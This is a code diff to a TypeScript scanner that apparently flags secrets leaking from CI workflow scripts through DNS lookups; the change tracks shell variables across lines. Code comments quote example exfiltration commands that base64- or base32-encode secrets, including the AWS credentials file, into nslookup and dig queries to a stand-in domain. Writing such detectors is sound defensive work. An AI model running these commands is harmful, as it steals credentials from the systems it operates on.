@@ -1,4 +1,4 @@
-import { dnsLookupInShell } from '../code/dns-exfiltration.js';
+import { dnsLookupInShell, noteShellVariable, type ShellVariables } from '../code/dns-exfiltration.js';
 import { ipInHostname, isPrivateAddress } from '../code/network-endpoints.js';
 import { CREDENTIAL_NAME, ENV_VARIABLE_READ } from '../code/sink-rules.js';
 import { makeFinding } from '../finding.js';
@@ -726,12 +726,15 @@ function ghSent(ctx: RuleContext, where: string, jobId: string, line: string, en
  * A secret or the environment written into the name a DNS lookup asks for (`nslookup "$(echo
  * $T | base32).x.tld"`): the lookup carries it to that domain's name server, no HTTP client needed.
  */
-function dnsSent(ctx: RuleContext, where: string, jobId: string, line: string, env: ReadonlyMap<string, string>, assigned: ReadonlyMap<string, Assigned>): void {
+function dnsSent(ctx: RuleContext, where: string, jobId: string, line: string, env: ReadonlyMap<string, string>, assigned: ReadonlyMap<string, Assigned>, variables: ShellVariables): void {
   const kind = ctx.workflow.kind;
-  const lookup = dnsLookupInShell(line, (name) => {
+  const secretLike = (name: string): boolean => {
     const value = env.get(name);
     return (value !== undefined && (credentialsIn(value, kind).length > 0 || dumpsAllSecrets(value))) || (assigned.get(name)?.secrets.length ?? 0) > 0;
-  });
+  };
+  const lookup = dnsLookupInShell(line, secretLike, variables);
+  // What this line assigns is read by the lines after it (`D=$(cat ~/.aws/credentials | base64)`, then `dig "$D.x.tld"`).
+  noteShellVariable(line, variables, secretLike);
   if (lookup === null || (lookup.data !== 'secret' && lookup.data !== 'environment' && credentialsIn(line, kind).length === 0)) return;
   ctx.findings.push(
     makeFinding({
@@ -756,9 +759,10 @@ export function secretRules(ctx: RuleContext): void {
       const allSecretsHere = dumpsAllSecrets(step.raw) || [...env.values()].some((v) => dumpsAllSecrets(v));
       for (const script of scriptsOf(step)) {
         const assigned = new Map<string, Assigned>();
+        const variables: ShellVariables = new Map();
         for (const line of script.split('\n')) {
           noteAssignment(line, env, assigned, kind);
-          dnsSent(ctx, where, job.id, line, env, assigned);
+          dnsSent(ctx, where, job.id, line, env, assigned, variables);
           ghSent(ctx, where, job.id, line, env, assigned);
           if (!NETWORK_COMMAND.test(line)) continue;
           const secretVars = [...shellVariablesIn(line)].filter((name) => {
